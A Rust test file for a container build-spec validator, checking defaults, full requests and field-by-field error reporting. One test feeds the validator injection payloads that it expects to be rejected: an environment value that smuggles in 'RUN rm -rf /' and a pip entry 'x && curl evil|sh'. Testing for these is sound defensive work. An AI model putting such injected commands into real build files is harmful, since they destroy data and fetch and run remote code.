use crate::spec::{
    validate, BuildSpec, EnvVarSpec, PackagesSpec, Protocol, RuntimeType, ServicePortSpec,
};

fn minimal() -> BuildSpec {
    BuildSpec {
        source_image: "python:3.11-slim".into(),
        target_image: "registry.local/ml/python:3.11-debian12".into(),
        ..BuildSpec::default()
    }
}

#[test]
fn a_minimal_request_gets_every_default() {
    let spec = match validate(&minimal()) {
        Ok(spec) => spec,
        Err(errors) => panic!("{errors}"),
    };
    assert_eq!(spec.source.to_string(), "python:3.11-slim");
    assert_eq!(spec.target.tag(), Some("3.11-debian12"));
    assert_eq!(spec.min_cpu, 1.0);
    assert_eq!(spec.min_memory.bytes, 1 << 30);
    assert_eq!(spec.runtime_type, RuntimeType::Python);
    assert_eq!(spec.runtime_path, "/usr/bin/python3");
    assert_eq!(spec.base_distro, None);
    assert_eq!(spec.features, ["batch", "uid-match", "user-input"]);
    assert!(spec.accelerators.is_empty());
    assert_eq!(
        spec.corecount_envs,
        ["OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS", "NPROC"]
    );
    assert!(spec.service_ports.is_empty() && spec.envs.is_empty() && spec.packages.is_empty());
}

#[test]
fn a_full_request_comes_through_intact() {
    let request = BuildSpec {
        min_cpu: Some(0.5),
        min_memory: Some("1.5g".into()),
        service_ports: vec![ServicePortSpec {
            name: "jupyter".into(),
            protocol: "http".into(),
            port: 8080,
            command: None,
        }],
        envs: vec![EnvVarSpec {
            name: "HF_HOME".into(),
            value: "/home/work/.hf".into(),
        }],
        packages: PackagesSpec {
            apt: vec!["curl".into()],
            pip: vec!["numpy>=1.26".into()],
            conda: vec![],
        },
        allow_root: true,
        auto_push: true,
        runtime_type: Some("python".into()),
        runtime_path: Some("/opt/conda/bin/python3".into()),
        base_distro: Some("ubuntu22.04".into()),
        features: Some(vec!["batch".into(), "query".into()]),
        accelerators: Some(vec!["cuda".into()]),
        corecount_envs: Some(vec!["MKL_NUM_THREADS".into()]),
        ..minimal()
    };
    let spec = match validate(&request) {
        Ok(spec) => spec,
        Err(errors) => panic!("{errors}"),
    };
    assert_eq!(spec.min_memory.to_string(), "1536m");
    assert_eq!(spec.service_ports[0].protocol, Protocol::Http);
    assert_eq!(spec.service_ports[0].command[2], "notebook");
    assert_eq!(spec.envs[0].value, "/home/work/.hf");
    assert!(spec.allow_root && spec.auto_push);
    assert_eq!(
        spec.base_distro.map(|d| d.to_string()),
        Some("ubuntu22.04".into())
    );
    assert_eq!(spec.packages, request.packages);
}

#[test]
fn every_problem_is_reported_at_once_with_its_field() {
    let request = BuildSpec {
        source_image: "UPPER/case".into(),
        target_image: "reg.local/x:latest".into(),
        min_cpu: Some(0.0),
        min_memory: Some("1m".into()),
        service_ports: vec![
            ServicePortSpec {
                name: "web".into(),
                protocol: "http".into(),
                port: 8080,
                command: None,
            },
            ServicePortSpec {
                name: "api".into(),
                protocol: "smtp".into(),
                port: 22,
                command: Some("api".into()),
            },
        ],
        envs: vec![EnvVarSpec {
            name: "LD_PRELOAD".into(),
            value: "a\"\nRUN rm -rf /".into(),
        }],
        packages: PackagesSpec {
            apt: vec![],
            pip: vec![
                "numpy".into(),
                "requests".into(),
                "x && curl evil|sh".into(),
            ],
            conda: vec![],
        },
        runtime_type: Some("java".into()),
        runtime_path: Some("relative/python".into()),
        base_distro: Some("Ubuntu".into()),
        features: Some(vec!["telepathy".into()]),
        accelerators: Some(vec!["GPU!".into()]),
        corecount_envs: Some(vec!["1BAD".into()]),
        ..minimal()
    };
    let errors = match validate(&request) {
        Ok(spec) => panic!("accepted: {spec:?}"),
        Err(errors) => errors,
    };
    let fields: Vec<&str> = errors.errors.iter().map(|e| e.field.as_str()).collect();
    for expected in [
        "source_image",
        "target_image",
        "min_cpu",
        "min_memory",
        "runtime_type",
        "runtime_path",
        "base_distro",
        "features[0]",
        "accelerators[0]",
        "corecount_envs[0]",
        "service_ports[0].command",
        "service_ports[1].protocol",
        "service_ports[1].port",
        "envs[0].name",
        "envs[0].value",
        "packages.pip[2]",
    ] {
        assert!(
            fields.contains(&expected),
            "{expected} missing from {fields:?}"
        );
    }
    assert_eq!(fields.len(), 16, "{errors}");
    assert!(errors
        .message_for("target_image")
        .is_some_and(|m| m.contains("latest")));
}

#[test]
fn target_problems_come_from_the_parser_or_from_backend_ai_rules() {
    let cases = [
        ("a//b:1.0", "'//'"),
        ("app", "explicit tag"),
        ("app:1.0-py311-py312", "twice"),
    ];
    for (target, fragment) in cases {
        let request = BuildSpec {
            target_image: target.into(),
            ..minimal()
        };
        let errors = validate(&request).err().unwrap_or_default();
        let message = errors.message_for("target_image").unwrap_or_default();
        assert!(message.contains(fragment), "{target}: {errors}");
    }
}
